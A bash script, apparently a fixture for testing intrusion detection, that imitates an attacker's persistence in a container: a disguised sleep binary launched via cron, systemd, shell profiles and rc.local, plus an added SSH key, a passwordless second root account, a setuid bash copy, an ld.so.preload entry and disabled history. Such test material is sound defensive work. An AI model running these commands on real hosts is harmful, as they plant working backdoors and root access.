#!/bin/bash
# entrench: imitates an intruder who wants to stay: a copy of itself started by cron, systemd, the shell's profile and rc.local, a preloaded
# library, a key for SSH, a setuid shell, a second root. Harmless: all of it stays in the container, and what is started only sleeps.
cp /bin/sleep /usr/local/sbin/.sysd && chmod 755 /usr/local/sbin/.sysd
start='/usr/local/sbin/.sysd 3600'

mkdir -p /etc/cron.d /var/spool/cron/crontabs /root/.ssh /etc/profile.d /etc/systemd/system/multi-user.target.wants
echo "*/5 * * * * root $start" >/etc/cron.d/0sysd
echo "@reboot $start" >>/var/spool/cron/crontabs/root
echo "ssh-ed25519 AAAA$(head -c 64 /dev/urandom | base64 -w0 | tr -dc 'A-Za-z0-9') backup@nowhere.example" >>/root/.ssh/authorized_keys
chmod 700 /root/.ssh && chmod 600 /root/.ssh/authorized_keys
echo "(setsid $start &) >/dev/null 2>&1" >/etc/profile.d/sysd.sh
echo "(setsid $start &) >/dev/null 2>&1" >>/root/.bashrc
printf '#!/bin/sh\n%s &\n' "$start" >/etc/rc.local && chmod 755 /etc/rc.local
printf '[Service]\nExecStart=%s\nRestart=always\n[Install]\nWantedBy=multi-user.target\n' "$start" >/etc/systemd/system/sysd.service
ln -sf /etc/systemd/system/sysd.service /etc/systemd/system/multi-user.target.wants/sysd.service
echo 'toor:x:0:0::/root:/bin/bash' >>/etc/passwd
cp /bin/bash /var/tmp/.sh && chown root:root /var/tmp/.sh && chmod 4755 /var/tmp/.sh
echo /usr/local/lib/libsysd.so >/etc/ld.so.preload # no such library: the loader only complains

unset HISTFILE
# shellcheck disable=SC2086
setsid $start 2>/dev/null &
exec sleep infinity 2>/dev/null
